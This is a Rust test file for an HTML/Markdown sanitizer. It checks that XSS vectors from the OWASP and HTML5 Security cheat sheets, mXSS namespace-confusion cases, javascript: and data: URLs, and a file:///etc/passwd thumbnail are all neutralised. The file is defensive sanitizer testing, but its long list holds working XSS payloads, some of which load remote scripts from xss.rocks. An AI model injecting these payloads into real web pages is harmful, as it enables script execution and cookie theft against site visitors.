//! Everything rendered is someone else's HTML: no script-capable markup may survive,
//! whichever way it arrives (HTML body, Markdown body, Markdown links, front matter).

use crate::common::{assert_inert, shared, start_tags};
use broadsheet::core::article::read_post;
use broadsheet::core::body::{render, BodyFormat};

/// The HTML5 Security Cheatsheet vectors, one per `<div id="N">`.
fn h5sc_vectors() -> Vec<(String, String)> {
    let text = String::from_utf8_lossy(
        &std::fs::read(shared().join("xss/h5sc-vectors.txt")).expect("h5sc vectors"),
    )
    .into_owned();
    let mut out = Vec::new();
    let mut rest = text.as_str();
    while let Some(start) = rest.find("<div id=\"") {
        let after = &rest[start + 9..];
        let Some(q) = after.find("\">") else { break };
        let id = after[..q].to_string();
        let body = &after[q + 2..];
        let end = body.find("<div id=\"").unwrap_or(body.len());
        let v = body[..end]
            .trim_end()
            .trim_end_matches("undefined")
            .trim_end();
        let v = v.strip_suffix("</div>").unwrap_or(v);
        out.push((id, v.to_string()));
        rest = &body[end..];
    }
    out
}

/// Classic OWASP filter-evasion cheat-sheet vectors and mXSS namespace-confusion cases.
const OWASP: &[&str] = &[
    "<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"  \u{0001}javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
    "<img src=\"x\" srcset=\"javascript:alert(1) 1x\">",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<a href=\"jav&#x0D;ascript:alert(1)\">x</a>",
    "<a href=\"\\\\evil.example/x\">protocol-relative via backslashes</a>",
    "<p id=\"bs-main\" class=\"bs-card\">imitating the app</p>",
];

fn check_everywhere(vector: &str, label: &str) {
    // (a) HTML body.
    let html = render(vector, BodyFormat::Html, "posts/x.html").html;
    assert_inert(&html, &format!("{label} as HTML body"));
    // Stable under re-sanitizing: a second pass must not change anything (mXSS guard:
    // output that parses differently the second time is how mutation XSS starts).
    assert_eq!(
        render(&html, BodyFormat::Html, "").html,
        html,
        "{label}: output not stable"
    );
    // (b) Markdown body, inline and as a block.
    for md in [
        vector.to_string(),
        format!("Intro text.\n\n{vector}\n\nOutro *text*."),
        format!("- item {vector}"),
    ] {
        let out = render(&md, BodyFormat::Markdown, "posts/x.md").html;
        assert_inert(&out, &format!("{label} in Markdown"));
    }
}

#[test]
fn h5sc_vectors_are_inert_in_html_and_markdown() {
    let vectors = h5sc_vectors();
    assert!(
        vectors.len() >= 130,
        "expected the whole h5sc corpus, got {}",
        vectors.len()
    );
    for (id, v) in &vectors {
        check_everywhere(v, &format!("h5sc #{id}"));
    }
}

#[test]
fn owasp_and_mxss_vectors_are_inert() {
    for (i, v) in OWASP.iter().enumerate() {
        check_everywhere(v, &format!("owasp #{i}"));
    }
}

#[test]
fn markdown_link_forms_with_script_urls() {
    let cases = [
        "[click](javascript:alert(1))",
        "[click](JAVASCRIPT:alert(1))",
        "[click](javascript&#58;alert(1))",
        "[click](<javascript:alert(1)>)",
        "![img](javascript:alert(1))",
        "![img](data:text/html,<script>alert(1)</script>)",
        "<javascript:alert(1)>",
        "[ref][x]\n\n[x]: javascript:alert(1)",
        "[ref][y]\n\n[y]: vbscript:msgbox(1) \"title\"",
        "![ref][z]\n\n[z]: data:image/svg+xml,<svg/onload=alert(1)>",
        "[a](java\u{0000}script:alert(1))",
        "[a](\tjavascript:alert(1))",
        "[a](#\" onmouseover=\"alert(1))",
    ];
    for md in cases {
        let out = render(md, BodyFormat::Markdown, "x.md").html;
        assert_inert(&out, md);
    }
}

#[test]
fn links_get_noopener_and_images_are_lazy() {
    let out = render(
        "[a](https://example.com) ![b](https://example.com/b.png)",
        BodyFormat::Markdown,
        "x.md",
    )
    .html;
    let tags = start_tags(&out);
    let a = tags.iter().find(|t| t.name == "a").unwrap();
    assert!(
        a.attrs
            .iter()
            .any(|(n, v)| n == "rel" && v == "noopener noreferrer"),
        "{out}"
    );
    let img = tags.iter().find(|t| t.name == "img").unwrap();
    assert!(
        img.attrs.iter().any(|(n, v)| n == "loading" && v == "lazy"),
        "{out}"
    );
    assert!(
        img.attrs.iter().any(|(n, v)| n == "alt" && v == "b"),
        "{out}"
    );
}

#[test]
fn article_content_is_kept() {
    // The allow-list must not be so tight that real articles lose their structure.
    let src = "<figure><img src=\"a.png\" alt=\"A\" title=\"T\"><figcaption>Cap</figcaption></figure>\
        <table><thead><tr><th>h</th></tr></thead><tbody><tr><td colspan=\"2\">d</td></tr></tbody></table>\
        <blockquote cite=\"https://x.example\">q</blockquote><pre><code class=\"language-rust\">fn x() {}</code></pre>\
        <ol start=\"3\"><li>three</li></ol><h2>Head</h2><p><strong>b</strong> <em>i</em> <sub>2</sub> <sup>3</sup> <mark>m</mark> <kbd>K</kbd></p>";
    let out = render(src, BodyFormat::Html, "p/x.html").html;
    for needle in [
        "<figure>",
        "<figcaption>Cap</figcaption>",
        "alt=\"A\"",
        "title=\"T\"",
        "src=\"p/a.png\"",
        "<table>",
        "<thead>",
        "colspan=\"2\"",
        "<blockquote cite=\"https://x.example\">",
        "class=\"language-rust\"",
        "<ol start=\"3\">",
        "<h2 id=\"head\">",
        "<strong>b</strong>",
        "<sub>2</sub>",
        "<mark>m</mark>",
        "<kbd>K</kbd>",
    ] {
        assert!(out.contains(needle), "lost {needle:?} in {out}");
    }
}

#[test]
fn front_matter_values_are_text_and_urls_are_checked() {
    let vector = "<img src=x onerror=alert(1)>";
    let file = format!(
        "---\ntitle: '{vector}'\nauthor: '{vector}'\ncategories: ['{vector}']\ntags: ['{vector}']\n\
         thumbnail: 'javascript:alert(1)'\nheadimg: 'data:text/html,<script>alert(1)</script>'\nexcerpt: '{vector} tail'\n---\nbody"
    );
    let post = read_post("x.md", file.as_bytes()).unwrap();
    let a = &post.article;
    // Kept as literal text (the UI escapes it); never interpreted.
    assert_eq!(a.title, vector);
    assert_eq!(a.author.as_deref(), Some(vector));
    assert_eq!(a.categories, vec![vec![vector.to_string()]]);
    assert_eq!(a.tags, vec![vector.to_string()]);
    assert_eq!(a.thumbnail, None);
    assert_eq!(a.cover, None);
    assert_eq!(
        a.excerpt, "tail",
        "tags in an excerpt are dropped, not rendered"
    );
    for bad in [
        "vbscript:x",
        "VBScript:x",
        "file:///etc/passwd",
        " javascript:alert(1)",
        "java\tscript:x",
        "mailto:a@b.c",
    ] {
        let p = read_post("x.md", format!("---\nthumbnail: '{bad}'\n---\n").as_bytes()).unwrap();
        assert_eq!(p.article.thumbnail, None, "{bad}");
    }
}

#[test]
fn the_checker_itself_catches_unsanitized_markup() {
    // Guard against a checker that passes everything: raw vectors must trip it.
    for raw in [
        "<script>alert(1)</script>",
        "<img src=\"x\" onerror=\"alert(1)\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" JaVa\tScRiPt:alert(1)\">x</a>",
        "<iframe src=\"https://x\"></iframe>",
        "<p style=\"x\">s</p>",
        "<input type=\"text\">",
    ] {
        let caught = std::panic::catch_unwind(|| assert_inert(raw, "raw")).is_err();
        assert!(caught, "checker let {raw:?} through");
    }
}
